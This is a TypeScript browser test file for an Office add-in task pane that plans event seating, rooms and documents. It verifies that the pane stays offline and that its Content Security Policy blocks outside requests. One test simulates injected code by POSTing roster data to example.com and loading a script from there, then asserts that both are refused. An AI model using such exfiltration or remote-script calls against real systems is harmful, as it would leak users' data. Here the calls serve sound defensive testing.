import { JSDOM } from "jsdom";
import { chromiumInstalled } from "./harness/chromium";
import { expectNoTrouble } from "./harness/expectNoTrouble";
import { OFFICE_JS, type OpenPane } from "./harness/openPane";
import { paneBrowser } from "./harness/paneBrowser";
import { openTab } from "./harness/paneSteps";

/** The files of the build: the page itself and webpack's hashed chunks. */
const OWN_FILE = /^\/(?:taskpane\.html|[\w-]+\.[0-9a-f]{8}\.js)$/;

/** The office.js URL the served taskpane.html loads (the one script it names on another host). */
async function officeJsOfPage(origin: string): Promise<string> {
  const doc = new JSDOM(await (await fetch(`${origin}/taskpane.html`)).text()).window.document;
  const external = [...doc.querySelectorAll("script[src]")].map((s) => s.getAttribute("src") ?? "").filter((src) => /^https?:/.test(src));
  expect(external).toHaveLength(1);
  return external[0];
}

async function until(condition: () => boolean, timeoutMs = 5_000): Promise<void> {
  const end = Date.now() + timeoutMs;
  while (!condition() && Date.now() < end) await new Promise((resolve) => setTimeout(resolve, 50));
}

/** The pane's requests, split into its own origin's paths, office.js and everything else. */
function sortRequests(pane: OpenPane, origin: string, officeJs: string) {
  const own: string[] = [];
  const office: string[] = [];
  const elsewhere: string[] = [];
  for (const url of pane.trouble.requests) {
    if (url.startsWith(`${origin}/`)) own.push(new URL(url).pathname);
    else if (url === officeJs) office.push(url);
    else elsewhere.push(url);
  }
  return { own, office, elsewhere };
}

(chromiumInstalled() ? describe : describe.skip)("the built task pane stays offline", () => {
  const { open, origin } = paneBrowser();

  test("reading, every screen, checking, seating, housing and writing documents request only the add-in's own files and office.js", async () => {
    const officeJs = await officeJsOfPage(origin());
    expect(officeJs).toBe(OFFICE_JS);
    const pane = await open("lang=en-US");
    const { page } = pane;
    await page.getByRole("heading", { name: "People and tasks" }).waitFor(); // read on opening
    for (const tab of ["Check", "Seating", "Rooms", "Docs", "Settings"]) await openTab(page, tab);
    await openTab(page, "Check");
    await page.getByRole("button", { name: "Check", exact: true }).click();
    await page.getByText("The findings are also on the Issues sheet, each linked to its cell.").waitFor();
    await openTab(page, "Seating");
    await page.getByRole("button", { name: "Plan seating", exact: true }).click();
    await page.getByText(/^Written: Dais Seating, Table Tents, Table Assignment, Table Chart/).waitFor();
    await openTab(page, "Rooms");
    await page.getByRole("button", { name: "Assign rooms" }).click();
    await page.getByText("Written: Room Allocation").waitFor();
    await openTab(page, "Docs");
    await page.getByRole("button", { name: "Write documents" }).click();
    await page.getByText("Written: Checklist, Minutes, Notice, Reply Form, Sign-in Sheet, Badges, Badge Cards", { exact: true }).waitFor();
    expect(pane.trouble.workers).toHaveLength(1); // the table search ran, in its worker

    const { own, office, elsewhere } = sortRequests(pane, origin(), officeJs);
    expect(elsewhere).toEqual([]);
    expect(office).toHaveLength(1);
    expect(own.filter((p) => !OWN_FILE.test(p))).toEqual([]);
    expect(own).toContain("/taskpane.html");
    expect(own.some((p) => p.startsWith("/table-worker."))).toBe(true);
    console.info(
      `Requests of the pane over all its commands: ${pane.trouble.requests.length} ` +
        `(${own.length} to its origin, ${office.length} office.js, ${elsewhere.length} elsewhere)\n${own.join("\n")}`,
    );
    expectNoTrouble(pane);
  }, 90_000);

  test("the policy refuses a fetch and a script from another host before they reach the network, and the pane keeps working", async () => {
    const pane = await open("lang=en-US");
    const { page } = pane;
    await page.getByRole("heading", { name: "People and tasks" }).waitFor();
    expect(await pane.snapshot()).toMatchObject({ runs: 1, syncs: 1, failedSyncs: 0 });

    // What injected code would try: send data out, or load a script from elsewhere.
    const outcome = await page.evaluate(async () => {
      const fetched = await fetch("https://example.com/x", { method: "POST", body: "roster" }).then(
        () => "answered",
        (e: Error) => e.name,
      );
      const script = await new Promise<string>((resolve) => {
        const s = document.createElement("script");
        s.src = "https://example.com/x.js";
        s.onload = () => resolve("ran");
        s.onerror = () => resolve("error");
        document.head.appendChild(s);
      });
      return { fetched, script };
    });
    expect(outcome).toEqual({ fetched: "TypeError", script: "error" });
    await until(() => pane.trouble.cspViolations.length >= 2); // the reports arrive after the refusals
    expect(pane.trouble.cspViolations).toEqual([
      { blockedURI: "https://example.com/x", effectiveDirective: "connect-src", disposition: "enforce" },
      { blockedURI: "https://example.com/x.js", effectiveDirective: "script-src-elem", disposition: "enforce" },
    ]);
    // Refused in the page: neither request reached the network, where the test would have blocked it.
    expect(pane.trouble.blockedRequests).toEqual([]);
    expect(pane.trouble.requests.filter((u) => u.includes("example.com"))).toEqual([]);
    // Chromium says so on the console, and nothing else went wrong.
    const refusals = pane.trouble.consoleErrors.length;
    expect(refusals).toBeGreaterThanOrEqual(2);
    for (const e of pane.trouble.consoleErrors) expect(e).toMatch(/https:\/\/example\.com\/x.*Content Security Policy/);

    // Check still reads and writes the workbook.
    await openTab(page, "Check");
    await page.getByRole("button", { name: "Check", exact: true }).click();
    await page.getByText("The findings are also on the Issues sheet, each linked to its cell.").waitFor();
    expect(await pane.snapshot()).toMatchObject({ runs: 3, syncs: 3, failedSyncs: 0 });
    expect(pane.trouble.pageErrors).toEqual([]);
    expect(pane.trouble.consoleErrors).toHaveLength(refusals);
  }, 60_000);

  test("the support page loads nothing but itself", async () => {
    const pane = await open("lang=en-US");
    await pane.page.getByRole("heading", { name: "People and tasks" }).waitFor(); // the pane's own reading is done
    const before = pane.trouble.requests.length;
    await pane.page.goto(`${origin()}/support.html`, { waitUntil: "load" });
    await pane.page.getByRole("heading", { name: "Your data" }).waitFor();
    expect(pane.trouble.requests.slice(before)).toEqual([`${origin()}/support.html`]);
    expectNoTrouble(pane);
  }, 60_000);
});
